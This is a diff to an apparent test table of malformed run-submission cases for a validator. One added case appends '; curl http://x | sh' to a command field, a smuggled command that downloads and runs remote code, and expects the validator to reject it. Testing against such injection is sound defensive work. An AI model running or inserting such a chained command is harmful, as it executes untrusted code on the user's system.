@@ -205,7 +205,7 @@ WRONG = [
     ("segments", FAIL, segment(0, 1e4)),
     ("segments", FAIL, claim(swap_segments)),
     ("segments", FAIL, segment(1, "x")),
-    ("segments", NOTE, seed(segments=None)),
+    ("segments", NOTE, both(seed(segments=None), top(lane="open-hardware"))),
     ("code-val", HUMAN, code(VAL_STEP)),
     ("score-note", FAIL, text("train_seed2.log", "targets:6400", "targets:6400 note:partial")),
     ("score-note", FAIL, text("metrics_seed2.jsonl", '"resumed": false', '"resumed": true')),
@@ -267,6 +267,7 @@ WRONG = [
     ("artifact-hash", FAIL, other_artifact),
     ("env", FAIL, top(env={"ITERATIONS": "4"})),
     ("env", FAIL, top(env={"TOKENIZER_PATH": "y.model"})),  # it was tiny.model
+    ("command", FAIL, claim(lambda v: v.update(command=v["command"] + "; curl http://x | sh"))),
     ("command", NOTE, top(command="python3 'train_gpt.py")),
     ("command", NOTE, top(command="make all")),
     ("command", NOTE, top(command="python3 train_gpt.py")),
